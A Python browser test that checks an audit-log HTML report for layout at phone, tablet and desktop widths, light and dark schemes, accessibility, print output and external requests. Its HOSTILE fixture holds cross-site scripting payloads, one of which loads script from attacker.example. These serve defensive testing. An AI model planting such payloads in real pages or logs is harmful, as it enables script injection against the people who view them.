"""The page of `audit report` in a real browser: audit_report.py BINARY [FOLDER]

Without script, network or a mouse: at the width of a telephone and of a desktop, light and dark, and
as a PDF; nothing is wider than the window, and axe-core finds nothing serious. With a folder the
screenshots are kept there. Exit status 75: there is no browser.
"""

import pathlib
import shutil
import subprocess
import sys
import tempfile

import audit_log

WIDTHS = {"phone": 360, "tablet": 768, "desktop": 1440}
SCHEMES = ["light", "dark"]
BROWSERS = ["chromium", "chromium-browser", "google-chrome"]
NO_BROWSER = 75

# What somebody writes into the log who wants the reader's browser to do something.
HOSTILE = [
    '{"timestamp":"2026-02-27T10:00:00.000Z","monotonic_ns":1,"event_type":"security_event",'
    '"severity":"critical","event":"honeytoken_read","user_id":"<script>document.title=1</script>",'
    '"outcome":"ok","chain":"%s","sequence":1,"hash":"%s"}' % ("ab" * 16, "cd" * 32),
    '</style><script src="http://attacker.example/x.js"></script>',
    '"><img src=x onerror=alert(1)>',
]


def make(binary, folder, name, lines, expected):
    """The page about a log of these lines."""
    log, page = folder / f"{name}.jsonl", folder / f"{name}.html"
    log.write_text("".join(lines))
    status = subprocess.run(
        [binary, "audit", "report", "--html", page, log], stdin=subprocess.DEVNULL, timeout=120).returncode
    assert status == expected, f"{name}: expected exit status {expected}, found {status}"
    return page


def look(browser, axe, page, shots):
    """Problems of a page in every size and scheme."""
    problems = []
    for size, width in WIDTHS.items():
        for scheme in SCHEMES:
            name = f"{page.stem}, {size}, {scheme}"
            context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)
            tab = context.new_page()
            asked, said = [], []
            tab.on("request", lambda request: asked.append(request.url))
            tab.on("console", lambda message: said.append(message.text))
            tab.on("pageerror", lambda error: said.append(str(error)))
            tab.goto(page.as_uri())
            wide = tab.evaluate("document.scrollingElement.scrollWidth - innerWidth")
            if wide > 0:
                problems.append(f"{name}: expected no more than {width} px, found {wide} more")
            if asked != [page.as_uri()]:
                problems.append(f"{name}: expected one request, found {asked}")
            if said:
                problems.append(f"{name}: expected a silent console, found {said}")
            if shots:
                tab.screenshot(path=shots / f"{page.stem}-{size}-{scheme}.png", full_page=True)
            tab.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
            for found in axe.run(tab).response["violations"]:
                if found["impact"] in ("serious", "critical"):
                    places = [node["html"][:120] for node in found["nodes"][:3]]
                    problems.append(f"{name}: {found['id']}: {found['help']}: {places}")
            context.close()
    return problems


def outline(tab):
    """The levels of the headings, the tables without caption, the header cells without scope."""
    return tab.evaluate(
        """({
          levels: [...document.querySelectorAll('h1,h2,h3,h4')].map(one => +one.tagName[1]),
          uncaptioned: [...document.querySelectorAll('table')].filter(one => !one.caption).length,
          unscoped: document.querySelectorAll('th:not([scope])').length,
          scripts: document.querySelectorAll('script,img,link,iframe,object,embed,base,form').length,
          links: [...document.querySelectorAll('[href],[src]')].map(one => one.getAttribute('href')),
          lang: document.documentElement.lang, title: document.title,
        })""")


def check_outline(tab, name):
    """Whether the page can be read by its structure alone."""
    found, problems = outline(tab), []
    levels = found["levels"]
    if levels.count(1) != 1 or levels[0] != 1 or any(b - a > 1 for a, b in zip(levels, levels[1:])):
        problems.append(f"{name}: expected one h1 and no level left out, found {levels}")
    for what, wanted in ("uncaptioned", 0), ("unscoped", 0), ("scripts", 0), ("lang", "en"):
        if found[what] != wanted:
            problems.append(f"{name}: {what}: expected {wanted}, found {found[what]}")
    if not all(link.startswith("#") for link in found["links"]):
        problems.append(f"{name}: expected links within the page, found {found['links']}")
    if not found["title"].startswith("Audit report"):
        problems.append(f"{name}: expected the title of a report, found {found['title']!r}")
    return problems


def check_print(tab, page, shots):
    """Whether it can be printed, with the tables that are closed on the screen."""
    tab.emulate_media(media="print")
    hidden = tab.evaluate(
        """[...document.querySelectorAll('details')].filter(
          one => !one.open && getComputedStyle(one, '::details-content').contentVisibility !== 'visible'
        ).length""")
    pdf = tab.pdf(format="A4", path=shots / f"{page.stem}.pdf" if shots else None)
    problems = [] if pdf.startswith(b"%PDF-") else [f"{page.stem}: expected a PDF, found {pdf[:8]!r}"]
    if hidden:
        problems.append(f"{page.stem}: expected every table in print, found {hidden} hidden")
    return problems


def main(binary, shots=None):
    """Every page in every way; the exit status."""
    from axe_playwright_python.sync_playwright import Axe
    from playwright.sync_api import sync_playwright

    program = next(filter(None, map(shutil.which, BROWSERS)), None)
    if not program:
        print("there is no browser")
        return NO_BROWSER
    problems = []
    with tempfile.TemporaryDirectory() as folder, sync_playwright() as driver:
        folder = pathlib.Path(folder)
        week = list(audit_log.lines(records=12000))
        hostile = week[:300] + [line + "\n" for line in HOSTILE] + week[400:500]
        pages = [
            make(binary, folder, "week", week, 0),
            make(binary, folder, "empty", [], 0),
            make(binary, folder, "one", week[:2], 0),
            make(binary, folder, "hostile", hostile, 65),
        ]
        browser = driver.chromium.launch(executable_path=program, args=["--no-sandbox"])
        for page in pages:
            problems += look(browser, Axe(), page, shots)
            tab = browser.new_page()
            tab.goto(page.as_uri())
            problems += check_outline(tab, page.stem) + check_print(tab, page, shots)
            tab.close()
        print(f"{len(pages)} pages, {len(WIDTHS)} widths, {len(SCHEMES)} schemes, {browser.version}")
        browser.close()
    for problem in problems:
        print(problem)
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1], *map(pathlib.Path, sys.argv[2:])))
